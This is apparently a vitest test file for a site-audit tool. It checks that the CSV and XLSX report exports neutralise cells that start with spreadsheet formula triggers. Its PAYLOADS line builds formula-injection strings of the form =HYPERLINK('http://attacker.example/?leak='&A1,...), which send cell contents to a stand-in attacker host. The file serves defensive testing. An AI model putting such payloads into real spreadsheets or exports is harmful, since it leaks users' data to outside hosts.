// Formula injection, per export kind: an audit where EVERY string that comes from the crawled site
// (URLs, titles, messages, errors, redirect targets, example URLs, the site URL) starts with a
// character a spreadsheet reads as the start of a formula. No cell of any export may start with one
// (each must carry the neutralising quote), so the test fails for a kind whose writer skips
// lib/reports/cell-text.ts, or if the neutraliser itself is weakened.
import { mkdtemp, rm } from 'node:fs/promises';
import { createWriteStream } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { PassThrough } from 'node:stream';
import { finished } from 'node:stream/promises';
import ExcelJS from 'exceljs';
import { afterAll, describe, expect, it } from 'vitest';
import { CSV_KINDS, writeCsvReport } from '@/lib/reports/csv-report';
import { writeXlsxReport } from '@/lib/reports/xlsx-report';
import { reportDataOf, reportFixture, type ReportFixture } from '@/test/report-fixture';

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'] as const;
const PAYLOADS = TRIGGERS.map((t) => `${t}HYPERLINK("http://attacker.example/?leak="&A1,"click")`);

/** The fixture with every crawled string replaced by a payload, cycling through the triggers. */
function poisonedFixture(): { fixture: ReportFixture; siteUrl: string } {
  let n = 0;
  const next = () => PAYLOADS[n++ % PAYLOADS.length]!;
  const base = reportFixture();
  const fixture: ReportFixture = {
    pages: base.pages.map((p) => ({ ...p, url: next(), title: next(), error: next() })),
    findings: base.findings.map((f) => ({ ...f, url: next(), message: next(), title: next() })),
    redirects: base.redirects.map((r) => ({ ...r, url: next(), target: next(), error: next() })),
    issues: base.issues.map((i) => ({ ...i, title: next(), why: next(), fix: next(), exampleUrls: [next(), next()] })),
  };
  return { fixture, siteUrl: next() };
}

function data() {
  const { fixture, siteUrl } = poisonedFixture();
  const d = reportDataOf(fixture);
  return { ...d, audit: { ...d.audit, url: siteUrl } };
}

/** RFC 4180 fields of a whole file (quoted CR/LF, doubled quotes). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  const endField = () => {
    row.push(field);
    field = '';
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') endField();
    else if (c === '\r' && text[i + 1] === '\n') {
      endField();
      rows.push(row);
      row = [];
      i++;
    } else field += c;
  }
  return rows;
}

const startsAsFormula = (text: string) => (TRIGGERS as readonly string[]).includes(text[0] ?? '');

describe.each(CSV_KINDS)('CSV export "%s"', (kind) => {
  it('neutralises every crawled cell that starts with = + - @ tab or CR', async () => {
    const out = new PassThrough();
    const chunks: Buffer[] = [];
    out.on('data', (c: Buffer) => chunks.push(c));
    await writeCsvReport(data(), kind, out);
    const rows = parseCsv(Buffer.concat(chunks).toString('utf8').replace(/^\uFEFF/, ''));
    expect(rows.length).toBeGreaterThan(1);
    const cells = rows.slice(1).flat();
    expect(cells.filter(startsAsFormula)).toEqual([]);
    // The payloads are there, quoted: the rows really carried crawled text.
    const neutralised = cells.filter((c) => c.startsWith("'") && startsAsFormula(c.slice(1)));
    expect(neutralised.length).toBeGreaterThanOrEqual(3);
  });
});

describe('XLSX workbook export', () => {
  let dir: string | undefined;
  afterAll(async () => {
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  it('neutralises every crawled cell of every sheet, and writes no formula cells', async () => {
    dir = await mkdtemp(path.join(tmpdir(), 'formula-injection-'));
    const file = path.join(dir, 'report.xlsx');
    const out = createWriteStream(file);
    await writeXlsxReport(data(), out, { now: new Date('2026-12-02T08:00:00Z') });
    await finished(out);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(file);

    const offending: string[] = [];
    const seenTriggers = new Set<string>();
    for (const ws of workbook.worksheets) {
      ws.eachRow((row, r) =>
        row.eachCell((cell, c) => {
          if (cell.type === ExcelJS.ValueType.Formula) offending.push(`${ws.name}!R${r}C${c} is a formula`);
          if (typeof cell.value !== 'string') return;
          if (startsAsFormula(cell.value)) offending.push(`${ws.name}!R${r}C${c} = ${JSON.stringify(cell.value)}`);
          if (cell.value.startsWith("'") && startsAsFormula(cell.value.slice(1))) seenTriggers.add(`${ws.name}:${cell.value[1]}`);
        }),
      );
    }
    expect(offending).toEqual([]);
    // Every table sheet and the summary carried payloads.
    expect(new Set([...seenTriggers].map((s) => s.split(':')[0]))).toEqual(new Set(workbook.worksheets.map((w) => w.name)));
  });
});
